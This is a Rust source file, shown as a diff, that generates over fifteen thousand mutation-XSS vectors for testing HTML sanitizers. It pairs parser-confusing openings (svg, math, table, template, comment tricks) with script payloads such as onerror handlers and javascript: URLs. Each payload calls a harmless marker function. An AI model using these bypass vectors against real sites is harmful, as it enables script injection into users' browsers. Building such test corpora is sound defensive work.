@@ -1,0 +1,144 @@
+//! Markup that becomes another tree once it is written and parsed again: what has led sanitizers astray ("mutation XSS").
+//!
+//! A vector is an opening, which brings the parser into a state that the markup of the tree does not bring it into again; a hiding
+//! place, where a first parser takes the payload for text; and the payload. All that runs calls `mxss()`.
+
+/// Openings: namespaces, what parsers move, what ends early, modes of tables and templates, raw text, depth.
+const OPENINGS: &[&str] = &[
+    "",
+    "<svg>",
+    "<math>",
+    "<svg></p>",
+    "<math></br>",
+    "<math><mtext>",
+    "<math><mi><mglyph>",
+    "<math><mtext><malignmark>",
+    "<math><mtext><table><mglyph>",
+    "<math><mtext></p><mglyph><svg>",
+    "<math><annotation-xml>",
+    "<math><annotation-xml encoding=text/html>",
+    "<math><annotation-xml encoding=\"application/xhtml+xml\"><svg>",
+    "<math><annotation-xml encoding=text/html><mglyph>",
+    "<svg><annotation-xml><foreignobject>",
+    "<svg><foreignObject><math><mi>",
+    "<svg><desc><math><mtext>",
+    "<svg><title><svg>",
+    "<svg><title><p><svg>",
+    "<svg><desc><table><svg>",
+    "<form><math><mtext></form><form><mglyph>",
+    "<form><svg><desc></form><form>",
+    "<form><div></form><form>",
+    "<form><input></form><form><form>",
+    "<table><form><svg>",
+    "<table><math><mtext>",
+    "<table><tr><svg></tr>",
+    "<table><td></table><svg><caption>",
+    "<table><caption><svg></caption><svg>",
+    "<table><a><table><a>",
+    "<a><table><a><svg>",
+    "<a><svg><a>",
+    "<p><svg></p><svg>",
+    "<b><p><svg></b><svg>",
+    "<nobr><nobr><math>",
+    "<h1><svg><h2></h1>",
+    "<button><math><button>",
+    "<template>",
+    "<template><svg>",
+    "<template><tr><svg></template><math>",
+    "<svg><template>",
+    "<div><template shadowrootmode=open><svg>",
+    "<select>",
+    "<select><svg>",
+    "<select><option><math><mtext>",
+    "<select><template></select>",
+    "<noscript>",
+    "<noscript><svg>",
+    "<svg><noscript>",
+    "<xmp><svg></xmp>",
+    "<iframe><svg></iframe>",
+    "<noembed></noembed><svg>",
+    "<textarea><svg></textarea>",
+    "<title><svg></title>",
+    "<svg><textarea>",
+    "<svg><xmp>",
+    "<math><iframe>",
+    "<svg><plaintext>",
+    "<svg><![CDATA[]]><style>",
+    "<!-->",
+    "<!--->",
+    "<!---!><svg>",
+    "<!--x--!><svg>",
+    "<?x <svg>?>",
+    "<!doctype \"><svg>",
+    "<frameset>",
+    "<ruby><rt><svg></ruby>",
+    "<applet><p><marquee><svg></applet>",
+    "<dl><dd><svg></dl><dt>",
+];
+
+/// Elements whose content becomes markup, or markup becomes content, in another namespace or with other scripting.
+const HOLDERS: &[&str] = &["style", "title", "textarea", "xmp", "noscript", "iframe", "noembed", "noframes", "script"];
+
+/// Payloads. They have no double quotes, as some are put between them.
+const PAYLOADS: &[&str] = &[
+    "<img src=x onerror=mxss()>",
+    "<svg onload=mxss()>",
+    "<script>mxss()</script>",
+    "<a href=javascript:mxss()>x</a>",
+    "<style onload=mxss()></style>",
+    "<svg><set attributeName=href to=javascript:mxss()>",
+];
+
+/// The levels of elements that browsers stop at, and one more or less.
+const DEPTHS: &[usize] = &[509, 510, 511, 512, 513];
+
+/// Hides a payload in what a parser may take for text. The number chooses, `None` is past the last.
+fn hidden(place: usize, payload: &str) -> Option<String> {
+    let escaped = || payload.replace('<', "&lt;").replace('>', "&gt;");
+    let places = HOLDERS.len();
+    Some(match (place / places, HOLDERS[place % places]) {
+        (0, holder) => format!("<{holder}><a id=\"</{holder}>{payload}\">"),
+        (1, holder) => format!("<{holder}><!--</{holder}>{payload}--></{holder}>"),
+        (2, holder) => format!("<{holder}>{}</{holder}>", escaped()),
+        (3, holder) => format!("<{holder}><![CDATA[</{holder}>{payload}]]></{holder}>"),
+        (4, "style") => payload.to_owned(),
+        (4, "title") => format!("<!--><p title=\"-->{payload}\">"),
+        (4, "textarea") => format!("<p title=\"--!>{payload}\"><!--"),
+        (4, "xmp") => format!("<![CDATA[{payload}]]>"),
+        (4, "noscript") => format!("<p title=\"]]>{payload}\"><![CDATA["),
+        (4, "iframe") => format!("<!--&gt;{payload}--!>"),
+        (4, "noembed") => format!("<plaintext>{payload}"),
+        (4, "noframes") => format!("<?x {}?><p id=\"?>{payload}\">", escaped()),
+        (4, _) => format!("<p<b title=\"/>{payload}\">"),
+        _ => return None,
+    })
+}
+
+/// Makes all vectors: more than fifteen thousand.
+pub fn vectors() -> impl Iterator<Item = String> {
+    let places = move |payload: &'static str| (0..).map_while(move |place| hidden(place, payload));
+    let shallow = OPENINGS.iter().flat_map(move |opening| {
+        PAYLOADS.iter().flat_map(move |payload| places(payload).map(move |hidden| format!("{opening}{hidden}")))
+    });
+    let deep = DEPTHS.iter().flat_map(move |&depth| {
+        ["<div>", "<b>", "<svg>", "<font color=x><p>"].into_iter().flat_map(move |element| {
+            let opening = element.repeat(depth / (1 + element.matches('<').count() / 2));
+            places(PAYLOADS[0]).map(move |hidden| format!("{opening}<svg></p>{hidden}"))
+        })
+    });
+    shallow.chain(deep)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::HashSet;
+
+    #[test]
+    fn vectors_are_many_and_differ() {
+        let all: Vec<String> = vectors().collect();
+        let different: HashSet<&str> = all.iter().map(String::as_str).collect();
+        assert!(different.len() > 15_000, "{}", different.len());
+        assert!(all.iter().all(|vector| vector.contains("mxss()")));
+    }
+}
